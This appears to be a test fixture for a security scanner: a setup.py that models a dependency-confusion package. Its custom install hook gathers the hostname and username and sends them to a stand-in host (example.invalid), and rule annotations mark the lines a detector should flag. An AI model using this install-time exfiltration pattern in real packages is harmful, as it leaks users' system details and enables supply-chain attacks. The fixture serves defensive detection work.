# canary-test: path=setup.py artifact=sdist
# Dependency-confusion probe at install time (inert: example.invalid).
import getpass
import socket

import requests
from setuptools import setup
from setuptools.command.install import install


class CustomInstall(install):
    def run(self):
        install.run(self)
        # ruleid: INSTALL_TIME_RECON
        ploads = {"hostname": socket.gethostname(), "user": getpass.getuser()}
        # ruleid: INSTALL_TIME_RECON
        requests.get("https://example.invalid/probe", params=ploads)


setup(name="probe", version="99.0.0", cmdclass={"install": CustomInstall})
# ok: IMPORT_TIME_RECON, RECON_TO_COLLECTOR
